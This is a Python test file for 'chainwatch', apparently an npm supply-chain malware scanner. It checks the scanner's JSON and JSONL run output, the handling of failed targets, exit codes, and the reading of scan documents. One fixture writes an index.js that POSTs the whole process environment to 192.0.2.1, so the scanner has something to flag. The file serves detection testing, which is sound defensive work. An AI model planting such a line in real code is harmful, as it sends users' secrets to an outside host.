"""``scan --format json|jsonl``: one shape for one target or many, failed targets included,
and every reader of scan JSON reads the new shape and the old ones."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest

from chainwatch.errors import UsageError
from chainwatch.incidents.store import observations_from_files
from chainwatch.model import Finding, Level, PackageRef, Severity, Verdict
from chainwatch.output.jsonout import (
    ERROR_SCHEMA,
    RUN_SCHEMA,
    SCHEMA,
    Failed,
    render_json,
    render_jsonl,
    scan_documents,
    verdict_dict,
    verdict_from_dict,
)
from tests.helpers import write_package


def _verdict(name: str, level: Level = Level.MALICIOUS) -> Verdict:
    finding = Finding(rule="CW-T", severity=Severity.HIGH, technique="exfiltration",
                      capability="network", message="talks to 192.0.2.1", file="index.js",
                      line=2, snippet="fetch('http://192.0.2.1/')")
    return Verdict(target=PackageRef(name, "1.0.1"), level=level, score=80,
                   explanation="new network capability", findings=(finding,),
                   capabilities=("network",), baseline=PackageRef(name, "1.0.0"))


def test_one_target_is_a_run_with_one_unchanged_scan_document() -> None:
    v = _verdict("a")
    doc = json.loads(render_json([v]))
    assert doc["schema"] == RUN_SCHEMA and len(doc["results"]) == 1
    assert doc["results"][0] == json.loads(json.dumps(verdict_dict(v)))
    assert doc["results"][0]["schema"] == SCHEMA
    assert doc["summary"]["targets"] == 1 and doc["summary"]["malicious"] == 1


def test_many_targets_keep_command_line_order_and_failures_have_an_error() -> None:
    outcomes = [_verdict("a"), Failed("b@9.9.9", "b@9.9.9: no such version", 2),
                _verdict("c", Level.BENIGN)]
    doc = json.loads(render_json(outcomes))
    kinds = [r["schema"] for r in doc["results"]]
    assert kinds == [SCHEMA, ERROR_SCHEMA, SCHEMA]
    assert [r.get("package") or r.get("target") for r in doc["results"]] == ["a", "b@9.9.9", "c"]
    failed = doc["results"][1]
    assert failed["error"] == "b@9.9.9: no such version" and failed["exit_code"] == 2
    assert doc["summary"] == {"targets": 3, "scanned": 2, "failed": 1, "benign": 1,
                              "suspicious": 0, "malicious": 1}
    lines = [json.loads(x) for x in render_jsonl(outcomes).splitlines()]
    assert lines == doc["results"]


def test_no_target_scanned_is_still_a_run() -> None:
    doc = json.loads(render_json([Failed("x", "x: no such package")]))
    assert doc["summary"]["scanned"] == 0 and doc["results"][0]["error"]


def test_readers_take_the_new_shape_and_the_old_ones() -> None:
    a, b = verdict_dict(_verdict("a")), verdict_dict(_verdict("b"))
    run = json.loads(render_json([_verdict("a"), Failed("x", "boom"), _verdict("b")]))
    for shape in (run, [a, b], a):
        got = [d["package"] for d in scan_documents(shape)]
        assert got == (["a"] if shape is a else ["a", "b"])
    assert verdict_from_dict(next(scan_documents(run))).target == PackageRef("a", "1.0.1")
    for junk in ({"schema": RUN_SCHEMA, "results": "x"}, [{"name": "x"}], 3):
        with pytest.raises(ValueError):
            list(scan_documents(junk))


@pytest.mark.parametrize("fmt", ["json", "jsonl"])
def test_report_reads_scan_runs_with_failed_targets(tmp_path: Path, fmt: str) -> None:
    outcomes = [_verdict("a"), Failed("gone@1.0.0", "gone@1.0.0: no such version")]
    path = tmp_path / f"scan.{fmt}"
    path.write_text(render_json(outcomes) if fmt == "json" else render_jsonl(outcomes))
    assert [o.key for o in observations_from_files([path])] == ["a@1.0.1"]
    (tmp_path / "bad.json").write_text(json.dumps({"schema": RUN_SCHEMA, "results": [{}]}))
    with pytest.raises(UsageError):
        observations_from_files([tmp_path / "bad.json"])


# -- the command line -------------------------------------------------------------------------
def run(tmp_path: Path, *args: str, **env: str) -> subprocess.CompletedProcess[str]:
    environ = {**os.environ, "CHAINWATCH_CACHE_DIR": str(tmp_path / "cache"),
               "CHAINWATCH_DATA_DIR": str(tmp_path / "data"), **env}
    for name in ("CHAINWATCH_DEBUG", "NO_COLOR", "FORCE_COLOR", "COLUMNS"):
        if name not in env:
            environ.pop(name, None)
    return subprocess.run([sys.executable, "-m", "chainwatch", *args], capture_output=True,
                          text=True, env=environ, timeout=120, check=False, cwd=tmp_path)


def package(tmp_path: Path, name: str = "left-padder") -> Path:
    return write_package(tmp_path / name, {
        "package.json": json.dumps({"name": name, "version": "1.0.0", "main": "index.js"}),
        "index.js": "fetch('http://192.0.2.1/c', {method: 'POST', body: "
                    "JSON.stringify(process.env)});\n"})


def _scan(tmp_path: Path, *args: str) -> subprocess.CompletedProcess[str]:
    return run(tmp_path, "scan", *args, "--against", "none", "--offline", "--no-remember",
               "--fail-on", "never")


def test_cli_json_is_one_run_for_one_target_or_many(tmp_path: Path) -> None:
    pkg = package(tmp_path)
    one = _scan(tmp_path, str(pkg), "-f", "json")
    assert one.returncode == 0, one.stderr
    doc: dict[str, Any] = json.loads(one.stdout)
    assert doc["schema"] == RUN_SCHEMA and [r["package"] for r in doc["results"]] == [
        "left-padder"]
    many = _scan(tmp_path, str(pkg), str(tmp_path / "missing.tgz"), str(pkg), "-f", "json")
    assert many.returncode == 2  # a target could not be read
    results = json.loads(many.stdout)["results"]
    assert [r["schema"] for r in results] == [SCHEMA, ERROR_SCHEMA, SCHEMA]
    assert "missing.tgz" in results[1]["target"] and "no such file" in results[1]["error"]
    lines = _scan(tmp_path, str(tmp_path / "missing.tgz"), str(pkg), "-f", "jsonl")
    assert [json.loads(x).get("error") is not None for x in lines.stdout.splitlines()] == [
        True, False]
    alone = _scan(tmp_path, str(tmp_path / "missing.tgz"), "-f", "json")
    assert alone.returncode == 2 and json.loads(alone.stdout)["summary"]["failed"] == 1
    assert len(alone.stderr.strip().splitlines()) == 1 and "Traceback" not in alone.stderr


def test_an_unexpected_failure_of_one_target_is_an_entry_not_a_lost_run(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from typer.testing import CliRunner

    from chainwatch.cli import app
    from chainwatch.scan import Scanner

    pkg = package(tmp_path)
    real = Scanner.scan

    def flaky(self: Scanner, spec: str, *args: Any) -> Verdict:
        if spec == "boom":
            raise KeyError("a bug")
        return real(self, spec, *args)

    monkeypatch.setattr(Scanner, "scan", flaky)
    monkeypatch.delenv("CHAINWATCH_DEBUG", raising=False)
    monkeypatch.setenv("CHAINWATCH_CACHE_DIR", str(tmp_path / "cache"))
    monkeypatch.setenv("CHAINWATCH_DATA_DIR", str(tmp_path / "data"))
    done = CliRunner().invoke(app, ["scan", str(pkg), "boom", "--against", "none", "--offline",
                                    "--no-remember", "-f", "json"])
    assert done.exit_code == 1  # the other target is flagged: that wins over the failure
    results = json.loads(done.stdout)["results"]
    assert results[0]["package"] == "left-padder" and results[1]["target"] == "boom"
    assert "bug in chainwatch" in results[1]["error"]


def test_a_flagged_target_is_exit_1_even_when_another_failed(tmp_path: Path) -> None:
    pkg = package(tmp_path)
    done = run(tmp_path, "scan", str(pkg), str(tmp_path / "missing.tgz"), "--against", "none",
               "--offline", "--no-remember", "-f", "json")
    verdicts = [r.get("verdict") for r in json.loads(done.stdout)["results"]]
    assert verdicts[0] in ("suspicious", "malicious") and verdicts[1] is None
    assert done.returncode == 1, done.stderr


def test_a_scan_document_without_a_version_is_refused_when_read_back() -> None:
    """An attacker's review: `report` on a document whose version is null ended in an
    internal error deep in the exposure query."""
    import pytest

    from chainwatch.output.jsonout import scan_documents

    for bad in ({"package": "p", "version": None, "verdict": "malicious"},
                {"package": "", "version": "1.0.0", "verdict": "malicious"},
                {"package": ["p"], "version": "1.0.0", "verdict": "malicious"}):
        with pytest.raises(ValueError, match="without a package name and version"):
            list(scan_documents(bad))
    ok = {"package": "p", "version": "1.0.0", "verdict": "malicious"}
    assert list(scan_documents(ok)) == [ok]
